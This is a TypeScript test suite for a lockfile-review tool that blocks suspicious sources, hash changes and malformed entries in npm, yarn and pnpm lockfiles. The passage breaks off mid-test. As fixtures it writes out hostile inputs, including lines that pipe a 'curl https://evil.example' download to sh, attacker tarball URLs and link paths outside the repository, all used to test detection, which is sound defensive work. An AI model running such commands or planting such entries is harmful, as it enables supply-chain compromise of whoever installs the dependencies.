import { describe, expect, it } from "vitest";
import { checkLockfile, lockfileKindOf, type LockfileRule, type LockfileViolation } from "../../src/review/lockfiles/index.js";
import { LineIndex } from "../../src/review/lockfiles/lineIndex.js";
import { readYamlMap, type YamlNode } from "../../src/review/lockfiles/yaml.js";
import {
  BERRY_LODASH,
  BERRY_WORKSPACE,
  FORMATS,
  HASH,
  NPM_BASE_PACKAGES,
  PNPM_LODASH,
  YARN_CLASSIC_LODASH,
  berryLockfile,
  msFromRegistry,
  npmLockfile,
  pnpmLockfile,
  registryUrl,
  yarnClassicLockfile,
  type Format,
  type NewPackage,
} from "./fixtures/lockfiles/formats.js";

/** The 1-based line of `head` that contains `needle` (the first one). */
function lineContaining(head: string, needle: string): number {
  const index = head.split("\n").findIndex((line) => line.includes(needle));
  expect(index, `no line contains ${needle}`).toBeGreaterThanOrEqual(0);
  return index + 1;
}

/** The one violation, which must quote its line of `head` verbatim. */
function onlyViolation(violations: LockfileViolation[], head: string, rule: LockfileRule): LockfileViolation {
  expect(violations.map((v) => v.rule)).toEqual([rule]);
  const violation = violations[0]!;
  expect(head.split("\n")[violation.line - 1]).toBe(violation.text);
  return violation;
}

const ms = (source: NewPackage["source"], integrity = true): NewPackage => ({ name: "ms", version: "2.1.3", source, integrity });

describe.each(FORMATS)("$name lockfile", (format: Format) => {
  const check = (head: string, base: string | undefined = format.base) => checkLockfile(format.path, head, base);

  it("passes a new package from the registry with its hash", () => {
    expect(check(format.add(ms(msFromRegistry())))).toEqual([]);
  });

  it("passes the unchanged base", () => {
    expect(check(format.base)).toEqual([]);
  });

  it("blocks a package from a registry host the base does not use, quoting its source line", () => {
    const head = format.add(ms(msFromRegistry("https://registry.evil.example")));
    const violation = onlyViolation(check(head), head, "registry");
    expect(violation.line).toBe(lineContaining(head, "registry.evil.example"));
    expect(violation.message).toContain("https://registry.evil.example");
    expect(violation.package).toContain("ms");
  });

  it("blocks a package with no integrity hash, quoting the entry's first line", () => {
    const head = format.add(ms(msFromRegistry(), false));
    const violation = onlyViolation(check(head), head, "integrity");
    expect(violation.line).toBe(lineContaining(head, format.entryKey(ms(msFromRegistry()))));
    expect(violation.message).toMatch(/no integrity hash/);
  });

  it("blocks a git source the base does not have", () => {
    const head = format.add(ms({ kind: "git", repo: "attacker/ms" }, false));
    const violation = onlyViolation(check(head), head, "source");
    expect(violation.line).toBe(lineContaining(head, "attacker/ms"));
    expect(violation.message).toMatch(/git repository/);
  });

  it("blocks a registry tarball fetched over plain http", () => {
    const head = format.add(ms(msFromRegistry("http://registry.npmjs.org")));
    const violation = onlyViolation(check(head), head, "registry");
    expect(violation.line).toBe(lineContaining(head, "http://registry.npmjs.org"));
    expect(violation.message).toMatch(/plain http/);
  });

  it("blocks a tarball URL that is not a registry", () => {
    const head = format.add(ms({ kind: "tarball", url: "https://downloads.example.com/ms-2.1.3.tgz" }));
    const violation = onlyViolation(check(head), head, "source");
    expect(violation.line).toBe(lineContaining(head, "downloads.example.com"));
  });

  it("blocks a file: tarball", () => {
    const head = format.add(ms({ kind: "file", path: "vendor/ms-2.1.3.tgz" }));
    const violation = onlyViolation(check(head), head, "source");
    expect(violation.line).toBe(lineContaining(head, "vendor/ms-2.1.3.tgz"));
  });

  it("allows a git source the base already had", () => {
    const withGit = format.add(ms({ kind: "git", repo: "team/ms" }, false));
    expect(check(withGit, withGit)).toEqual([]);
  });

  it("checks a lockfile the pull request adds against the default registries", () => {
    expect(check(format.add(ms(msFromRegistry())), undefined)).toEqual([]);
    const head = format.add(ms(msFromRegistry("https://registry.evil.example")));
    onlyViolation(check(head, undefined), head, "registry");
  });

  it("does not blame the pull request for what the base already had", () => {
    const badBase = format.add(ms(msFromRegistry("https://registry.evil.example")));
    expect(check(badBase, badBase)).toEqual([]);
  });

  it("fails closed on text it cannot read", () => {
    const head = `${format.base.slice(0, Math.floor(format.base.length / 2))}\n{{{ "not": [ a lockfile`;
    const violation = onlyViolation(check(head), head, "unparseable");
    expect(violation).toMatchObject({ line: 1, text: head.split("\n")[0], package: "" });
  });

  it("blocks a new hash on an entry whose name, version and source stay as the base had them", () => {
    const head = format.base.replace(format.hashes.lodash, format.hashes.other);
    const violation = onlyViolation(check(head), head, "integrity");
    expect(violation.line).toBe(lineContaining(head, format.hashes.other));
    expect(violation.message).toMatch(/already pinned .* but another hash/);
  });
});

describe("registries come from the base", () => {
  const custom = "https://npm.internal.example";
  const basePackages = {
    ...NPM_BASE_PACKAGES,
    "node_modules/lodash": { version: "4.17.21", resolved: `${custom}/lodash/-/lodash-4.17.21.tgz`, integrity: HASH.lodash },
  };
  const base = npmLockfile(basePackages);
  const withMs = (host: string) =>
    npmLockfile({ ...basePackages, "node_modules/ms": { version: "2.1.3", resolved: `${host}/ms/-/ms-2.1.3.tgz`, integrity: HASH.ms } });

  it("allows the base's own registry and no other, not even the public one", () => {
    expect(checkLockfile("package-lock.json", withMs(custom), base)).toEqual([]);
    const head = withMs("https://registry.npmjs.org");
    onlyViolation(checkLockfile("package-lock.json", head, base), head, "registry");
  });

  it("compares hosts without case, and schemes and ports exactly", () => {
    expect(checkLockfile("package-lock.json", withMs("https://NPM.Internal.Example"), base)).toEqual([]);
    for (const host of ["http://npm.internal.example", "https://npm.internal.example:8443"]) {
      const head = withMs(host);
      onlyViolation(checkLockfile("package-lock.json", head, base), head, "registry");
    }
  });

  it("treats the public registry's three hostnames as one", () => {
    const head = yarnClassicLockfile(
      YARN_CLASSIC_LODASH,
      `ms@^2.1.3:\n  version "2.1.3"\n  resolved "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz#2c5b2a4d3f5b2c5e5c0f3a8e1b4d7f0a2c5e8b1d"\n  integrity ${HASH.ms}\n`,
    );
    expect(checkLockfile("yarn.lock", head, yarnClassicLockfile(YARN_CLASSIC_LODASH))).toEqual([]);
  });
});

describe("npm specifics", () => {
  const check = (head: string) => checkLockfile("package-lock.json", head, npmLockfile(NPM_BASE_PACKAGES));

  it("allows workspace links inside the repository and blocks those that leave it", () => {
    const inside = npmLockfile({
      ...NPM_BASE_PACKAGES,
      "node_modules/@app/cli": { resolved: "packages/cli", link: true },
      "packages/cli": { name: "@app/cli" },
    });
    expect(check(inside)).toEqual([]);
    for (const target of ["../../home/user/evil", "/etc/evil", "packages/../../evil"]) {
      const head = npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/evil": { resolved: target, link: true } });
      expect(onlyViolation(check(head), head, "source").line).toBe(lineContaining(head, `"resolved": "${target}"`));
    }
  });

  it("skips bundled entries that name no source, and checks those that do", () => {
    const bundled = { "node_modules/npm": { version: "10.0.0", resolved: "https://registry.npmjs.org/npm/-/npm-10.0.0.tgz", integrity: HASH.ms } };
    expect(check(npmLockfile({ ...NPM_BASE_PACKAGES, ...bundled, "node_modules/npm/node_modules/abbrev": { version: "2.0.0", inBundle: true } }))).toEqual([]);
    const head = npmLockfile({
      ...NPM_BASE_PACKAGES,
      ...bundled,
      "node_modules/npm/node_modules/abbrev": { version: "2.0.0", inBundle: true, resolved: "https://evil.example/abbrev.tgz" },
    });
    onlyViolation(check(head), head, "source");
  });

  it("reads the nested tree of lockfileVersion 1", () => {
    const head = `${JSON.stringify(
      {
        name: "app",
        lockfileVersion: 1,
        requires: true,
        dependencies: {
          lodash: { version: "4.17.21", resolved: "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", integrity: HASH.lodash },
          parent: {
            version: "1.0.0",
            resolved: "https://registry.npmjs.org/parent/-/parent-1.0.0.tgz",
            integrity: HASH.ms,
            dependencies: { child: { version: "github:attacker/child#0123456", from: "github:attacker/child" } },
          },
          local: { version: "file:packages/local" },
        },
      },
      null,
      2,
    )}\n`;
    const violation = onlyViolation(checkLockfile("npm-shrinkwrap.json", head, undefined), head, "source");
    expect(violation.line).toBe(lineContaining(head, `"version": "github:attacker/child`));
  });

  it("checks both halves of lockfileVersion 2, reporting an entry the halves agree on once", () => {
    const evil = { version: "2.1.3", resolved: "https://registry.evil.example/ms/-/ms-2.1.3.tgz", integrity: HASH.ms };
    const agree = npmLockfile({ ...NPM_BASE_PACKAGES, "node_modules/ms": evil }, { lockfileVersion: 2, dependencies: { ms: evil } });
    onlyViolation(check(agree), agree, "registry");
    // npm 6 installs from the nested half: a source hidden only there is found.
    const hidden = npmLockfile({ ...NPM_BASE_PACKAGES }, { lockfileVersion: 2, dependencies: { ms: evil } });
    onlyViolation(check(hidden), hidden, "registry");
  });

  it("reads a duplicate key as npm does: the last one wins", () => {
    const lines = npmLockfile({
      ...NPM_BASE_PACKAGES,
      "node_modules/ms": { version: "2.1.3", resolved: "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz", integrity: HASH.ms },
    }).split("\n");
    const at = lines.findIndex((l) => l.includes("registry.npmjs.org/ms/"));
    lines.splice(at + 1, 0, `      "resolved": "https://evil.example/ms.tgz",`);
    const head = lines.join("\n");
    expect(onlyViolation(check(head), head, "source").line).toBe(at + 2);
  });

  it("fails closed on an unknown lockfileVersion", () => {
    const head = npmLockfile(NPM_BASE_PACKAGES, { lockfileVersion: 4 });
    onlyViolation(check(head), head, "unparseable");
  });
});

describe("yarn v1 specifics", () => {
  const base = yarnClassicLockfile(YARN_CLASSIC_LODASH);

  it("reads `key: value` fields as yarn does", () => {
    const head = yarnClassicLockfile(YARN_CLASSIC_LODASH, `ms@^2.1.3:\n  version "2.1.3"\n  resolved: "https://evil.example/ms.tgz"\n  integrity ${HASH.ms}\n`);
    expect(onlyViolation(checkLockfile("yarn.lock", head, base), head, "source").line).toBe(lineContaining(head, "evil.example"));
  });

  it("allows a file: folder inside the repository and blocks one outside it", () => {
    const inside = yarnClassicLockfile(YARN_CLASSIC_LODASH, `"local@file:./packages/local":\n  version "1.0.0"\n`);
    expect(checkLockfile("yarn.lock", inside, base)).toEqual([]);
    const outside = yarnClassicLockfile(YARN_CLASSIC_LODASH, `"local@file:../../elsewhere":\n  version "1.0.0"\n`);
    onlyViolation(checkLockfile("yarn.lock", outside, base), outside, "source");
  });

  it("fails closed on a lone carriage return, which yarn reads as a line break", () => {
    const head = base.replace(`  integrity ${HASH.lodash}`, `  integrity ${HASH.lodash}\r  resolved "https://evil.example/x.tgz"`);
    onlyViolation(checkLockfile("yarn.lock", head, base), head, "unparseable");
  });
});

describe("yarn berry specifics", () => {
  const base = berryLockfile(BERRY_WORKSPACE, BERRY_LODASH);

  it("allows workspaces, and a patch of a registry package with its checksum", () => {
    const patched = `"lodash@patch:lodash@npm%3A4.17.21#~/.yarn/patches/lodash.patch::locator=app%40workspace%3A.":
  version: 4.17.21
  resolution: "lodash@patch:lodash@npm%3A4.17.21#~/.yarn/patches/lodash.patch::version=4.17.21&hash=abc123&locator=app%40workspace%3A."
  checksum: ${HASH.berryMs}
  languageName: node
  linkType: hard
`;
    const workspace = `"@app/util@workspace:packages/util":\n  version: 0.0.0-use.local\n  resolution: "@app/util@workspace:packages/util"\n  languageName: unknown\n  linkType: soft\n`;
    expect(checkLockfile("yarn.lock", berryLockfile(BERRY_WORKSPACE, workspace, BERRY_LODASH, patched), base)).toEqual([]);
    const unhashed = berryLockfile(BERRY_WORKSPACE, BERRY_LODASH, patched.replace(/ {2}checksum: .*\n/, ""));
    expect(onlyViolation(checkLockfile("yarn.lock", unhashed, base), unhashed, "integrity").line).toBe(lineContaining(unhashed, '"lodash@patch:'));
  });

  it("blocks an npm: resolution that binds its own archive URL", () => {
    const archive = encodeURIComponent("https://evil.example/ms-2.1.3.tgz");
    const head = berryLockfile(
      BERRY_WORKSPACE,
      BERRY_LODASH,
      `"ms@npm:^2.1.3":\n  version: 2.1.3\n  resolution: "ms@npm:2.1.3::__archiveUrl=${archive}"\n  checksum: ${HASH.berryMs}\n  languageName: node\n  linkType: hard\n`,
    );
    expect(onlyViolation(checkLockfile("yarn.lock", head, base), head, "source").line).toBe(lineContaining(head, "__archiveUrl"));
  });

  it("blocks a portal to a folder outside the repository", () => {
    const head = berryLockfile(
      BERRY_WORKSPACE,
      BERRY_LODASH,
      `"evil@portal:../../outside::locator=app%40workspace%3A.":\n  version: 0.0.0-use.local\n  resolution: "evil@portal:../../outside::locator=app%40workspace%3A."\n  languageName: node\n  linkType: soft\n`,
    );
    onlyViolation(checkLockfile("yarn.lock", head, base), head, "source");
  });

  it("is told from yarn v1 by its __metadata key", () => {
    expect(lockfileKindOf("web/yarn.lock", base)).toBe("yarn-berry");
    expect(lockfileKindOf("web/yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH))).toBe("yarn-classic");
  });
});

describe("pnpm specifics", () => {
  const base = pnpmLockfile([PNPM_LODASH]);

  it("blocks a git resolution, quoting its line", () => {
    const head = pnpmLockfile([
      PNPM_LODASH,
      `  evil@git+https://github.com/attacker/evil.git#${HASH.gitCommit}:\n    resolution: {type: git, repo: https://github.com/attacker/evil.git, commit: ${HASH.gitCommit}}\n    version: 1.0.0\n`,
    ]);
    expect(onlyViolation(checkLockfile("pnpm-lock.yaml", head, base), head, "source").line).toBe(lineContaining(head, "resolution: {type: git"));
  });

  it("allows a directory inside the repository", () => {
    const head = pnpmLockfile([
      PNPM_LODASH,
      `  local@file:packages/local:\n    resolution: {directory: packages/local, type: directory}\n    name: local\n    version: 1.0.0\n`,
    ]);
    expect(checkLockfile("pnpm-lock.yaml", head, base)).toEqual([]);
  });

  it("reads lockfile v6 keys", () => {
    const v6 = (extra: string) =>
      `lockfileVersion: '6.0'\n\ndependencies:\n  lodash:\n    specifier: ^4.17.21\n    version: 4.17.21\n\npackages:\n\n  /lodash@4.17.21:\n    resolution: {integrity: ${HASH.lodash}}\n    dev: false\n${extra}`;
    const head = v6(`\n  /ms@2.1.3:\n    resolution: {integrity: ${HASH.ms}, tarball: https://registry.evil.example/ms/-/ms-2.1.3.tgz}\n    dev: false\n`);
    const violation = onlyViolation(checkLockfile("pnpm-lock.yaml", head, v6("")), head, "registry");
    expect(violation.package).toBe("ms@2.1.3");
  });

  it("reads block-style resolutions and multi-line values the way YAML does", () => {
    const head = pnpmLockfile([
      PNPM_LODASH,
      `  ms@2.1.3:\n    resolution:\n      integrity: ${HASH.ms}\n      tarball: "https://downloads.example.com/\\u006ds.tgz"\n    deprecated: this message goes on\n      over two lines\n`,
    ]);
    expect(onlyViolation(checkLockfile("pnpm-lock.yaml", head, base), head, "source").line).toBe(lineContaining(head, "tarball:"));
  });

  it("fails closed on anchors, aliases and merge keys, which could hide a field from this check", () => {
    const merged = pnpmLockfile([
      PNPM_LODASH,
      `  ms@2.1.3:\n    x: &evil {tarball: https://evil.example/ms.tgz}\n    resolution:\n      <<: *evil\n      integrity: ${HASH.ms}\n`,
    ]);
    onlyViolation(checkLockfile("pnpm-lock.yaml", merged, base), merged, "unparseable");
  });

  it("fails closed on a duplicate package", () => {
    const head = pnpmLockfile([PNPM_LODASH, PNPM_LODASH.replace(HASH.lodash, HASH.ms)]);
    onlyViolation(checkLockfile("pnpm-lock.yaml", head, base), head, "unparseable");
  });
});

describe("the YAML reader", () => {
  const plain = (node: YamlNode): unknown =>
    node.kind === "map"
      ? Object.fromEntries([...node.pairs].map(([k, p]) => [k, { line: p.line, value: plain(p.value) }]))
      : node.kind === "scalar"
        ? node.value
        : "(other)";

  it("reads lockfiles exactly as the yaml package does", () => {
    const texts = [
      pnpmLockfile([
        PNPM_LODASH,
        `  ms@2.1.3:\n    resolution: {integrity: ${HASH.ms}, tarball: 'https://x.example/a''b.tgz'}\n    cpu: [x64, arm64]\n    version: 1.10\n    hasBin: true\n    deprecated: ~\n`,
      ]),
      berryLockfile(BERRY_WORKSPACE, BERRY_LODASH),
    ];
    for (const text of texts) {
      const lines = new LineIndex(text);
      expect(plain(readYamlMap(lines))).toEqual(plain(readYamlMap(lines, { fastPath: false })));
    }
  });
});

describe("scale", () => {
  it("finds the one new bad entry among 12,500 in a 50,000-line lockfile", () => {
    const entries = Array.from({ length: 12_500 }, (_, i) => `  pkg-${i}@1.0.${i}:\n    resolution: {integrity: ${HASH.ms}}\n    engines: {node: '>=8'}\n`);
    const base = pnpmLockfile(entries);
    entries.splice(
      6_000,
      1,
      `  pkg-6000@1.0.6000:\n    resolution: {integrity: ${HASH.ms}, tarball: https://registry.evil.example/pkg-6000/-/pkg-6000-1.0.6000.tgz}\n    engines: {node: '>=8'}\n`,
    );
    const head = pnpmLockfile(entries);
    expect(head.split("\n").length).toBeGreaterThan(50_000);
    const violation = onlyViolation(checkLockfile("pnpm-lock.yaml", head, base), head, "registry");
    expect(violation.package).toBe("pkg-6000@1.0.6000");
  });
});

describe("lockfileKindOf", () => {
  it("knows lockfiles by name at any depth, and nothing else", () => {
    expect(lockfileKindOf("package-lock.json")).toBe("npm");
    expect(lockfileKindOf("apps/web/npm-shrinkwrap.json")).toBe("npm");
    expect(lockfileKindOf("a/b/pnpm-lock.yaml")).toBe("pnpm");
    expect(lockfileKindOf("yarn.lock")).toBe("yarn-classic");
    expect(lockfileKindOf("Cargo.lock")).toBe("cargo");
    expect(lockfileKindOf("py/Pipfile.lock")).toBe("pipenv");
    expect(lockfileKindOf("go.sum")).toBe("go-sum");
    expect(lockfileKindOf("Gemfile.lock")).toBe("bundler");
    for (const other of ["poetry.lock", "package.json", "yarn.lock.bak", "src/package-lock.json.ts", "Cargo.toml", "go.mod", "Pipfile"])
      expect(lockfileKindOf(other)).toBeUndefined();
  });

  it("gives an unparseable violation for a file it does not know, rather than a pass", () => {
    const [violation] = checkLockfile("poetry.lock", "[[package]]\n", undefined);
    expect(violation).toMatchObject({ rule: "unparseable", line: 1, text: "[[package]]" });
  });
});

const NPMJS = "https://registry.npmjs.org";
const ATTACKER_TARBALL = registryUrl(NPMJS, "attacker-pkg", "6.6.6");

describe("a registry tarball belongs to its package", () => {
  const npmBase = npmLockfile(NPM_BASE_PACKAGES);
  const npmWith = (packages: Record<string, unknown>) => npmLockfile({ ...NPM_BASE_PACKAGES, ...packages });
  const checkNpm = (head: string) => checkLockfile("package-lock.json", head, npmBase);

  it("blocks an npm entry that keeps lodash's key and version but fetches another package's tarball", () => {
    for (const key of ["node_modules/lodash", "node_modules/express/node_modules/lodash"]) {
      const head = npmWith({ [key]: { version: "4.17.21", resolved: ATTACKER_TARBALL, integrity: HASH.ms } });
      const violation = onlyViolation(checkNpm(head), head, "source");
      expect(violation.line).toBe(lineContaining(head, "attacker-pkg"));
      expect(violation.message).toContain("lodash@4.17.21");
    }
  });

  it("blocks another release of the same package than the entry's version", () => {
    const head = npmWith({ "node_modules/lodash": { version: "4.17.21", resolved: registryUrl(NPMJS, "lodash", "4.17.20"), integrity: HASH.ms } });
    onlyViolation(checkNpm(head), head, "source");
  });

  it("accepts a scope spelt plainly or URL-encoded, and refuses another scope", () => {
    const types = (resolved: string) => npmWith({ "node_modules/@types/node": { version: "20.0.0", resolved, integrity: HASH.ms } });
    for (const folder of ["@types/node", "@types%2fnode", "@types%2Fnode"]) expect(checkNpm(types(`${NPMJS}/${folder}/-/node-20.0.0.tgz`))).toEqual([]);
    const head = types(`${NPMJS}/@attacker/node/-/node-20.0.0.tgz`);
    onlyViolation(checkNpm(head), head, "source");
  });

  it("takes an npm alias's package from its name field", () => {
    const alias = (resolved: string) => npmWith({ "node_modules/lodash": { name: "lodash-es", version: "4.17.21", resolved, integrity: HASH.ms } });
    expect(checkNpm(alias(registryUrl(NPMJS, "lodash-es", "4.17.21")))).toEqual([]);
    const head = alias(ATTACKER_TARBALL);
    onlyViolation(checkNpm(head), head, "source");
  });

  it("takes a lockfileVersion 1 alias's package from its npm: version", () => {
    const v1 = (resolved: string) =>
      `${JSON.stringify({ name: "app", lockfileVersion: 1, dependencies: { lodash: { version: "npm:lodash-es@4.17.21", resolved, integrity: HASH.ms } } }, null, 2)}\n`;
    expect(checkLockfile("package-lock.json", v1(registryUrl(NPMJS, "lodash-es", "4.17.21")), undefined)).toEqual([]);
    const head = v1(ATTACKER_TARBALL);
    onlyViolation(checkLockfile("package-lock.json", head, undefined), head, "source");
  });

  it("matches under a custom registry's path prefix, and checks only host and hash where its paths name no package", () => {
    const custom = "https://npm.internal.example";
    const base = npmWith({ "node_modules/lodash": { version: "4.17.21", resolved: `${custom}/api/npm/lodash/-/lodash-4.17.21.tgz`, integrity: HASH.lodash } });
    const withMs = (resolved: string) =>
      npmWith({
        "node_modules/lodash": { version: "4.17.21", resolved: `${custom}/api/npm/lodash/-/lodash-4.17.21.tgz`, integrity: HASH.lodash },
        "node_modules/ms": { version: "2.1.3", resolved, integrity: HASH.ms },
      });
    expect(checkLockfile("package-lock.json", withMs(`${custom}/api/npm/ms/-/ms-2.1.3.tgz`), base)).toEqual([]);
    expect(checkLockfile("package-lock.json", withMs(`${custom}/download/ms?version=2.1.3`), base)).toEqual([]);
    const impostor = withMs(`${custom}/api/npm/attacker-pkg/-/attacker-pkg-6.6.6.tgz`);
    onlyViolation(checkLockfile("package-lock.json", impostor, base), impostor, "source");
  });

  it("refuses a path on the public registry that is not its tarball layout", () => {
    const head = npmWith({ "node_modules/ms": { version: "2.1.3", resolved: `${NPMJS}/attacker-pkg/6.6.6/download`, integrity: HASH.ms } });
    expect(onlyViolation(checkNpm(head), head, "source").message).toMatch(/not a package tarball/);
  });

  it("blocks a yarn v1 entry whose resolved tarball is another package's, and patterns that name two packages", () => {
    const base = yarnClassicLockfile(YARN_CLASSIC_LODASH);
    const tarball = `${ATTACKER_TARBALL.replace(NPMJS, "https://registry.yarnpkg.com")}#0123456789abcdef0123456789abcdef01234567`;
    const head = yarnClassicLockfile(YARN_CLASSIC_LODASH.replace(/resolved ".*"/, `resolved "${tarball}"`).replace(HASH.lodash, HASH.ms));
    expect(onlyViolation(checkLockfile("yarn.lock", head, base), head, "source").line).toBe(lineContaining(head, "attacker-pkg"));
    const twoNames = yarnClassicLockfile(`lodash@^4.17.21, attacker-pkg@^6.6.6:\n  version "6.6.6"\n  resolved "${tarball}"\n  integrity ${HASH.ms}\n`);
    expect(onlyViolation(checkLockfile("yarn.lock", twoNames, base), twoNames, "source").message).toMatch(/names different packages/);
  });

  it("follows a yarn v1 alias to the package it fetches", () => {
    const alias = (name: string) =>
      yarnClassicLockfile(
        YARN_CLASSIC_LODASH,
        `"string-width-cjs@npm:string-width@^4.2.0", string-width@^4.2.0:\n  version "4.2.3"\n  resolved "${registryUrl("https://registry.yarnpkg.com", name, "4.2.3")}"\n  integrity ${HASH.ms}\n`,
      );
    expect(checkLockfile("yarn.lock", alias("string-width"), yarnClassicLockfile(YARN_CLASSIC_LODASH))).toEqual([]);
    const head = alias("string-width-cjs");
    onlyViolation(checkLockfile("yarn.lock", head, yarnClassicLockfile(YARN_CLASSIC_LODASH)), head, "source");
  });

  it("blocks a pnpm tarball, or name and version fields, that are another package's", () => {
    const base = pnpmLockfile([PNPM_LODASH]);
    const tarball = pnpmLockfile([`  lodash@4.17.21:\n    resolution: {integrity: ${HASH.ms}, tarball: ${ATTACKER_TARBALL}}\n`]);
    expect(onlyViolation(checkLockfile("pnpm-lock.yaml", tarball, base), tarball, "source").line).toBe(lineContaining(tarball, "tarball:"));
    for (const key of ["lodash@4.17.21", "lodash@4.17.21_x"]) {
      const fields = pnpmLockfile([`  ${key}:\n    resolution: {integrity: ${HASH.ms}}\n    name: attacker-pkg\n    version: 6.6.6\n`]);
      expect(onlyViolation(checkLockfile("pnpm-lock.yaml", fields, base), fields, "source").line).toBe(lineContaining(fields, "name: attacker-pkg"));
    }
  });

  describe("yarn berry", () => {
    const base = berryLockfile(BERRY_WORKSPACE, BERRY_LODASH);
    const lodashResolvedAs = (resolution: string) =>
      berryLockfile(BERRY_WORKSPACE, BERRY_LODASH.replace('"lodash@npm:4.17.21"', `"${resolution}"`).replace(HASH.berryLodash, HASH.berryMs));

    it("blocks a resolution to another package than the descriptor names", () => {
      const head = lodashResolvedAs("attacker-pkg@npm:6.6.6");
      const violation = onlyViolation(checkLockfile("yarn.lock", head, base), head, "source");
      expect(violation.line).toBe(lineContaining(head, "attacker-pkg"));
      expect(violation.message).toMatch(/names different packages/);
    });

    it("blocks a patch that wraps another package", () => {
      const head = lodashResolvedAs("lodash@patch:attacker-pkg@npm%3A6.6.6#~/.yarn/patches/x.patch::version=6.6.6&hash=abc123&locator=app%40workspace%3A.");
      onlyViolation(checkLockfile("yarn.lock", head, base), head, "source");
    });

    it("blocks an archive URL on the registry that is another package's tarball", () => {
      const head = lodashResolvedAs(`lodash@npm:4.17.21::__archiveUrl=${encodeURIComponent(ATTACKER_TARBALL)}`);
      onlyViolation(checkLockfile("yarn.lock", head, base), head, "source");
    });

    it("follows an npm: alias to the package it fetches", () => {
      const alias = `"string-width-cjs@npm:string-width@^4.2.0":\n  version: 4.2.3\n  resolution: "string-width@npm:4.2.3"\n  checksum: ${HASH.berryMs}\n  languageName: node\n  linkType: hard\n`;
      expect(checkLockfile("yarn.lock", berryLockfile(BERRY_WORKSPACE, BERRY_LODASH, alias), base)).toEqual([]);
    });
  });
});

describe("the same artifact keeps its hash", () => {
  const npmBase = npmLockfile(NPM_BASE_PACKAGES);

  it("allows a new release with its own hash", () => {
    const head = npmLockfile({
      ...NPM_BASE_PACKAGES,
      "node_modules/lodash": { version: "4.17.20", resolved: registryUrl(NPMJS, "lodash", "4.17.20"), integrity: HASH.ms },
    });
    expect(checkLockfile("package-lock.json", head, npmBase)).toEqual([]);
  });

  it("blocks a hash hidden in npm 6's half that the other half contradicts", () => {
    const lodash = NPM_BASE_PACKAGES["node_modules/lodash"] as Record<string, unknown>;
    const head = npmLockfile(NPM_BASE_PACKAGES, { lockfileVersion: 2, dependencies: { lodash: { ...lodash, integrity: HASH.ms } } });
    onlyViolation(checkLockfile("package-lock.json", head, npmBase), head, "integrity");
  });

  it("counts yarn v1's #sha1 fragment as part of the hash", () => {
    const base = yarnClassicLockfile(YARN_CLASSIC_LODASH);
    const head = base.replace("#679591c564c3bffaae8454cf0b3df370c3d6911c", "#0000000000000000000000000000000000000000");
    expect(onlyViolation(checkLockfile("yarn.lock", head, base), head, "integrity").line).toBe(lineContaining(head, "resolved"));
  });

  it("compares berry checksums only under the same cache key, since a new cache key rehashes every package", () => {
    const base = berryLockfile(BERRY_WORKSPACE, BERRY_LODASH);
    const head = base.replace("cacheKey: 10c0", "cacheKey: 9").replace(HASH.berryLodash, HASH.berryMs.slice("10c0/".length));
    expect(checkLockfile("yarn.lock", head, base)).toEqual([]);
  });
});

describe("yarn v1 entries without resolved are resolved again from their patterns", () => {
  const base = yarnClassicLockfile(YARN_CLASSIC_LODASH);
  const withEntry = (key: string, integrity = true) =>
    yarnClassicLockfile(YARN_CLASSIC_LODASH, `${key}:\n  version "1.0.0"\n${integrity ? `  integrity ${HASH.ms}\n` : ""}`);

  it.each([
    ['"helper@https://evil.example/helper.tgz"', /tarball URL/],
    ['"h2@github:attacker/h2#main"', /git repository/],
    ['"x@git+ssh://git@github.com/attacker/x.git#main"', /git repository/],
    ['"x@attacker/x"', /git repository/],
    ['"x@npm:y@https://evil.example/y.tgz"', /tarball URL/],
    ['x@^1.0.0, "x@github:attacker/x"', /git repository/],
  ])("judges %s as its source", (key, message) => {
    const head = withEntry(key);
    const violation = onlyViolation(checkLockfile("yarn.lock", head, base), head, "source");
    expect(violation.line).toBe(lineContaining(head, key));
    expect(violation.message).toMatch(message);
  });

  it("reads a semver range or dist-tag, directly or behind npm:, as the registry, which needs a hash", () => {
    for (const key of ["x@^1.2.0", '"x@>=1.0.0 <2 || 3.x"', "x@latest", '"x@npm:y@^1.0.0"']) {
      expect(checkLockfile("yarn.lock", withEntry(key), base)).toEqual([]);
      const head = withEntry(key, false);
      onlyViolation(checkLockfile("yarn.lock", head, base), head, "integrity");
    }
  });

  it("allows a pattern source the base already had", () => {
    const withGit = withEntry('"h2@github:team/h2#main"', false);
    expect(checkLockfile("yarn.lock", withGit, withGit)).toEqual([]);
  });
});

describe("the shape each package manager writes", () => {
  const unparseable = (path: string, head: string, base?: string) => expect(onlyViolation(checkLockfile(path, head, base), head, "unparseable").line).toBe(1);

  it("refuses a yarn.lock that is a shell script", () => {
    unparseable("yarn.lock", `x:\n  eval "curl https://evil.example/x.sh | sh"\n  integrity ${HASH.ms}\n`);
    unparseable(
      "yarn.lock",
      yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  version "1.0.0"\n  eval "curl https://evil.example/x.sh | sh"\n  integrity ${HASH.ms}\n`),
    );
  });

  it("refuses a yarn v1 entry without a version, a field of the wrong kind, or a dependency that is not name and range", () => {
    unparseable("yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  integrity ${HASH.ms}\n`));
    unparseable("yarn.lock", yarnClassicLockfile(YARN_CLASSIC_LODASH, `x@^1.0.0:\n  version "1.0.0"\n  resolved:\n    url "https://evil.example/x.tgz"\n`));
    unparseable(
      "yarn.lock",
      yarnClassicLockfile(
        YARN_CLASSIC_LODASH,
        `x@^1.0.0:\n  version "1.0.0"\n  integrity ${HASH.ms}\n  dependencies:\n    y:\n      run "curl https://evil.example | sh"\n`,
      ),
    );
  });

  it("refuses a berry entry with a field yarn does not write or without a resolution, and metadata without a version", () => {
    unparseable("yarn.lock", berryLockfile(BERRY_WORKSPACE, BERRY_LODASH.replace("  languageName: node", '  postinstall: "curl https://evil.example | sh"')));
    unparseable("yarn.lock", berryLockfile(BERRY_WORKSPACE, BERRY_LODASH.replace(/ {2}resolution: .*\n/, "")));
    unparseable("yarn.lock", berryLockfile(BERRY_WORKSPACE, BERRY_LODASH).replace("  version: 8\n", ""));
  });

  it("refuses an npm lockfile without its version or packages, or with a source that is not text", () => {
    unparseable("package-lock.json", `${JSON.stringify({ name: "app", packages: NPM_BASE_PACKAGES }, null, 2)}\n`);
